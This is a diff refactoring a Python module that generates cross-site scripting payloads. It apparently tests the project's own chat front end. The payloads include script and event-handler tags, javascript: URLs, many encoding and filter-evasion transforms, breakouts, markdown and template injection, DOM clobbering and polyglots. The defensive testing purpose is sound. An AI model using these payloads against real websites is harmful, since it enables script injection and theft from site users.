@@ -17,7 +17,7 @@ from __future__ import annotations
 import base64
 import itertools
 from collections import Counter
-from collections.abc import Callable, Iterable, Iterator
+from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 
 # Placeholders of the templates: {js} is the call that proves execution, {host} a host name
@@ -34,13 +34,17 @@ class Payload:
 
 
 # --- Classes ------------------------------------------------------------------------------
-# Each class yields templates; a template becomes a payload by formatting {js}, {host}, {n}.
-# Literal braces in templates are doubled ({{ }}).
+# Each class is a list of templates (the table :data:`CLASSES` at the end); a template becomes
+# a payload by formatting {js}, {host}, {n}. Literal braces in templates are doubled ({{ }}).
+
+
+def _combine(slot: str, values: Iterable[str], forms: Iterable[str]) -> list[str]:
+    """Every form with ``slot`` replaced by every value, the values in the outer loop."""
+    return [form.replace(slot, value) for value, form in itertools.product(values, forms)]
 
 
 def _case_variants(template: str) -> list[str]:
     """The template as written, in upper case and in alternating case (placeholders kept)."""
-    out = [template]
     upper: list[str] = []
     alternating: list[str] = []
     depth = 0
@@ -57,9 +61,7 @@ def _case_variants(template: str) -> list[str]:
             flip = not flip if char.isalpha() else flip
         if char == "}":
             depth -= 1
-    out.append("".join(upper))
-    out.append("".join(alternating))
-    return out
+    return [template, "".join(upper), "".join(alternating)]
 
 
 TAG_TEMPLATES = [
@@ -135,15 +137,13 @@ TAG_TEMPLATES = [
     "<portal src=http://{host}/></portal>",
 ]
 
-TAG_SEPARATORS = [" ", "/"]
+# What else may separate a tag's name from its first attribute (in place of the space).
+TAG_SEPARATORS = ["/", "\n"]
 
 
-def tags() -> Iterator[str]:
-    for template in TAG_TEMPLATES:
-        yield from _case_variants(template)
-        if " " in template:
-            yield template.replace(" ", "/", 1)
-            yield template.replace(" ", "\n", 1)
+def _tag_variants(template: str) -> list[str]:
+    separated = [template.replace(" ", sep, 1) for sep in TAG_SEPARATORS if " " in template]
+    return _case_variants(template) + separated
 
 
 HANDLERS = [
@@ -183,12 +183,6 @@ ATTRIBUTE_FORMS = [
     "<img src=x {h}=' {js}'>",
 ]
 
-
-def attributes() -> Iterator[str]:
-    for handler, form in itertools.product(HANDLERS, ATTRIBUTE_FORMS):
-        yield form.replace("{h}", handler)
-
-
 SCHEMES = [
     "javascript:{js}",
     "JAVASCRIPT:{js}",
@@ -226,13 +220,6 @@ URL_CONTEXTS = [
     "{url}",
 ]
 
-
-def urls() -> Iterator[str]:
-    for scheme, context in itertools.product(SCHEMES, URL_CONTEXTS):
-        # A bare URL with leading white space would be stripped: the "java script" one.
-        yield context.replace("{url}", scheme).strip()
-
-
 ENCODED_CORES = [
     "<script>{js}</script>",
     "<img src=x onerror={js}>",
@@ -240,129 +227,62 @@ ENCODED_CORES = [
     '"><script>{js}</script>',
 ]
 
-
-def _entities_decimal(text: str) -> str:
-    return "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text)
+MARKUP = "<>\"'"
 
 
-def _entities_hex(text: str) -> str:
-    return "".join(f"&#x{ord(c):x};" if c in "<>\"'" else c for c in text)
+def _per_char(escape: str, chars: str = MARKUP) -> Callable[[str], str]:
+    """An encoder writing each of ``chars`` as ``escape`` formatted with its code point."""
+    return lambda text: "".join(escape.format(ord(c)) if c in chars else c for c in text)
 
 
-def _entities_padded(text: str) -> str:
-    return "".join(f"&#{ord(c):07d}" if c in "<>" else c for c in text)
+def _replacing(pairs: dict[str, str], count: int = -1) -> Callable[[str], str]:
+    """An encoder making each replacement of ``pairs`` in turn (``count`` times each)."""
 
+    def encode(text: str) -> str:
+        for old, new in pairs.items():
+            text = text.replace(old, new, count)
+        return text
 
-def _entities_named(text: str) -> str:
-    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
-
-
-def _entities_named_no_semicolon(text: str) -> str:
-    return text.replace("<", "&lt").replace(">", "&gt")
-
-
-def _double_entities(text: str) -> str:
-    return text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
-
-
-def _percent(text: str) -> str:
-    return "".join(f"%{ord(c):02X}" if c in "<>\"'" else c for c in text)
-
-
-def _double_percent(text: str) -> str:
-    return "".join(f"%25{ord(c):02X}" if c in "<>\"'" else c for c in text)
-
-
-def _js_unicode(text: str) -> str:
-    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'" else c for c in text)
-
-
-def _js_hex(text: str) -> str:
-    return "".join(f"\\x{ord(c):02x}" if c in "<>\"'" else c for c in text)
-
-
-def _css_escape(text: str) -> str:
-    return "".join(f"\\{ord(c):x} " if c in "<>\"'" else c for c in text)
-
-
-def _utf7(text: str) -> str:
-    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")
-
-
-def _fullwidth(text: str) -> str:
-    return text.replace("<", "\uff1c").replace(">", "\uff1e")
-
-
-def _small_forms(text: str) -> str:
-    return text.replace("<", "\ufe64").replace(">", "\ufe65")
-
-
-def _overlong(text: str) -> str:
-    return text.replace("<", "%C0%BC").replace(">", "%C0%BE")
-
-
-def _nested_filter(text: str) -> str:
-    return (
-        text.replace("<script>", "<scr<script>ipt>")
-        .replace("<img", "<im<img>g")
-        .replace("<svg", "<sv<svg>g")
-    )
-
-
-def _zero_width(text: str) -> str:
-    return text.replace("<", "<\u200b", 1).replace("on", "o\u200cn", 1)
-
-
-def _bidi(text: str) -> str:
-    return "\u202e" + text + "\u202c"
-
-
-def _bom(text: str) -> str:
-    return "\ufeff" + text
-
-
-def _homoglyph(text: str) -> str:
-    return text.replace("script", "scr\u0456pt").replace("img", "\u0456mg")
+    return encode
 
 
 def _base64_text(text: str) -> str:
     return "base64:" + base64.b64encode(text.encode()).decode() + " {n}"
 
 
-ENCODERS: list[Callable[[str], str]] = [
-    _entities_decimal,
-    _entities_hex,
-    _entities_padded,
-    _entities_named,
-    _entities_named_no_semicolon,
-    _double_entities,
-    _percent,
-    _double_percent,
-    _js_unicode,
-    _js_hex,
-    _css_escape,
-    _utf7,
-    _fullwidth,
-    _small_forms,
-    _overlong,
-    _nested_filter,
-    _zero_width,
-    _bidi,
-    _bom,
-    _homoglyph,
-    _base64_text,
+# Every encoder leaves the placeholders' braces alone.
+ENCODERS: dict[str, Callable[[str], str]] = {
+    "entities_decimal": _per_char("&#{:d};"),
+    "entities_hex": _per_char("&#x{:x};"),
+    "entities_padded": _per_char("&#{:07d}", "<>"),
+    "entities_named": _replacing({"<": "&lt;", ">": "&gt;", '"': "&quot;"}),
+    "entities_named_no_semicolon": _replacing({"<": "&lt", ">": "&gt"}),
+    "double_entities": _replacing({"<": "&amp;lt;", ">": "&amp;gt;"}),
+    "percent": _per_char("%{:02X}"),
+    "double_percent": _per_char("%25{:02X}"),
+    "js_unicode": _per_char("\\u{:04x}"),
+    "js_hex": _per_char("\\x{:02x}"),
+    "css_escape": _per_char("\\{:x} "),
+    "utf7": _replacing({"<": "+ADw-", ">": "+AD4-", '"': "+ACI-"}),
+    "fullwidth": _replacing({"<": "\uff1c", ">": "\uff1e"}),
+    "small_forms": _replacing({"<": "\ufe64", ">": "\ufe65"}),
+    "overlong": _replacing({"<": "%C0%BC", ">": "%C0%BE"}),
+    "nested_filter": _replacing(
+        {"<script>": "<scr<script>ipt>", "<img": "<im<img>g", "<svg": "<sv<svg>g"}
+    ),
+    "zero_width": _replacing({"<": "<\u200b", "on": "o\u200cn"}, count=1),
+    "bidi": lambda text: "\u202e" + text + "\u202c",
+    "bom": lambda text: "\ufeff" + text,
+    "homoglyph": _replacing({"script": "scr\u0456pt", "img": "\u0456mg"}),
+    "base64_text": _base64_text,
+}
+
+ENCODED_EXTRA = [
+    "+/v8-+ADw-script+AD4-{js}+ADw-/script+AD4-",
+    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
+    "\\\\x3cscript\\\\x3e{js}\\\\x3c/script\\\\x3e",
+    "&lt;&#x2F;script&gt;&lt;script&gt;{js}&lt;&#x2F;script&gt;",
 ]
-
-
-def encodings() -> Iterator[str]:
-    for encoder, core in itertools.product(ENCODERS, ENCODED_CORES):
-        # Every encoder leaves the placeholders' braces alone.
-        yield encoder(core).strip()
-    yield "+/v8-+ADw-script+AD4-{js}+ADw-/script+AD4-"
-    yield "\\u003cscript\\u003e{js}\\u003c/script\\u003e"
-    yield "\\\\x3cscript\\\\x3e{js}\\\\x3c/script\\\\x3e"
-    yield "&lt;&#x2F;script&gt;&lt;script&gt;{js}&lt;&#x2F;script&gt;"
-
 
 BREAKERS = [
     '">',
@@ -404,12 +324,6 @@ BREAKOUT_INJECTIONS = [
     "<iframe src=http://{host}/>",
 ]
 
-
-def breakouts() -> Iterator[str]:
-    for breaker, injection in itertools.product(BREAKERS, BREAKOUT_INJECTIONS):
-        yield breaker + injection
-
-
 MARKDOWN_TARGETS = [
     "javascript:{js}",
     "JavaScript:{js}",
@@ -450,12 +364,6 @@ MARKDOWN_EXTRA = [
     "__<img src=x onerror={js}>__",
     "~~<script>{js}</script>~~",
 ]
-
-
-def markdown() -> Iterator[str]:
-    for target, form in itertools.product(MARKDOWN_TARGETS, MARKDOWN_FORMS):
-        yield form.replace("{t}", target)
-    yield from MARKDOWN_EXTRA
 
 
 # Ids and names the chat's pages and chat.js look up (docs/frontend.md), and globals.
@@ -506,13 +414,6 @@ CLOBBER_EXTRA = [
     "<img id=defaultView name=defaultView>",
 ]
 
-
-def clobbering() -> Iterator[str]:
-    for ident, form in itertools.product(CLOBBERED_IDS, CLOBBER_FORMS):
-        yield form.replace("{id}", ident)
-    yield from CLOBBER_EXTRA
-
-
 TEMPLATE_INJECTIONS = [
     "{{{{ {js} }}}}",
     "{{{{constructor.constructor('{js}')()}}}}",
@@ -546,13 +447,6 @@ TEMPLATE_INJECTIONS = [
     "<div data-bind=\"html: '<img src=x onerror={js}>'\"></div>",
 ]
 
-
-def templates() -> Iterator[str]:
-    for template in TEMPLATE_INJECTIONS:
-        yield template
-        yield f"<b>{template}</b>"
-
-
 POLYGLOTS = [
     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={js} )//%0D%0A%0d%0a//</stYle/</titLe/"
     "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={js}//>\\x3e",
@@ -578,22 +472,23 @@ POLYGLOTS = [
     '</style><img src=x onerror={js}>"></style></h1>',
 ]
 
-
-def polyglots() -> Iterator[str]:
-    for template in POLYGLOTS:
-        yield from _case_variants(template)
-
-
-CLASSES: dict[str, Callable[[], Iterable[str]]] = {
-    "tag": tags,
-    "attribute": attributes,
-    "url": urls,
-    "encoding": encodings,
-    "breakout": breakouts,
-    "markdown": markdown,
-    "clobbering": clobbering,
-    "template": templates,
-    "polyglot": polyglots,
+CLASSES: dict[str, list[str]] = {
+    "tag": [variant for template in TAG_TEMPLATES for variant in _tag_variants(template)],
+    "attribute": _combine("{h}", HANDLERS, ATTRIBUTE_FORMS),
+    # The chat strips messages: so must the bare " javascript:" URL be, here.
+    "url": [url.strip() for url in _combine("{url}", SCHEMES, URL_CONTEXTS)],
+    "encoding": [
+        encode(core).strip() for encode, core in itertools.product(ENCODERS.values(), ENCODED_CORES)
+    ]
+    + ENCODED_EXTRA,
+    "breakout": [
+        breaker + injection
+        for breaker, injection in itertools.product(BREAKERS, BREAKOUT_INJECTIONS)
+    ],
+    "markdown": _combine("{t}", MARKDOWN_TARGETS, MARKDOWN_FORMS) + MARKDOWN_EXTRA,
+    "clobbering": _combine("{id}", CLOBBERED_IDS, CLOBBER_FORMS) + CLOBBER_EXTRA,
+    "template": _combine("{t}", TEMPLATE_INJECTIONS, ["{t}", "<b>{t}</b>"]),
+    "polyglot": [variant for template in POLYGLOTS for variant in _case_variants(template)],
 }
 
 
@@ -608,8 +503,8 @@ def build() -> list[Payload]:
     """Every payload, numbered from 0, classes in :data:`CLASSES` order."""
     payloads: list[Payload] = []
     seen: set[str] = set()
-    for kind, make in CLASSES.items():
-        for template in make():
+    for kind, templates in CLASSES.items():
+        for template in templates:
             # Distinct before numbering: two templates differing only by number don't count.
             if template in seen:
                 continue
